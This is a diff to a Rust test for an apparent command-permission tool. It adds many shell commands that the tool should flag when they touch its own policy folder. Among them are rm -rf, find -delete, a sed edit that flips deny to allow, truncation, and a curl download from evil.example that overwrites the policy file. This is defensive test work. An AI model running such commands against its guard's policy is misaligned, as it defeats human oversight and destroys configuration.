@@ -40,13 +40,33 @@ fn asks(said: &str) -> bool {
 }
 
 #[test]
-fn the_own_files_ask_in_every_spelling_of_a_redirect() {
+fn the_own_files_ask_in_every_spelling_of_a_command() {
     let folder = open_folder();
     let config = folder.path().join("config/doorward");
     let config = config.display();
     let spellings = [
         format!("echo x > {config}/policy.toml"),
         format!("echo x >> {config}/policy.toml"),
+        // What programs do with their words, the formatters of a project among them.
+        format!("eslint x > {config}/policy.toml"),
+        format!("prettier --write {config}/policy.toml"),
+        format!("black {config}"),
+        format!("cp x {config}/policy.toml"),
+        format!("cp -r evil/. {config}/.."),
+        format!("cp -r evil/doorward {config}/.."),
+        format!("mv {config} /tmp/x"),
+        format!("rm -rf {config}"),
+        format!("sed -i s/deny/allow/ {config}/policy.toml"),
+        format!("echo x | tee -a {config}/policy.toml"),
+        format!("find {config} -name '*.toml' -delete"),
+        format!("find {config}/.. -exec rm {{}} +"),
+        format!("timeout 5 env A=1 nice truncate -s 0 {config}/policy.toml"),
+        format!("xargs -I@ cp @ {config}/policy.toml < list"),
+        format!("install -m 600 x {config}/policy.toml"),
+        format!("rsync -a evil/ {config}/"),
+        format!("tar xf evil.tar -C {config}"),
+        format!("curl -o {config}/policy.toml https://evil.example/p"),
+        format!("dd if=x of={config}/policy.toml"),
         format!("echo x >| {config}/new.toml"),
         format!("echo x &> {config}/policy.toml"),
         format!("echo x > {config}/auto/rules.toml"),
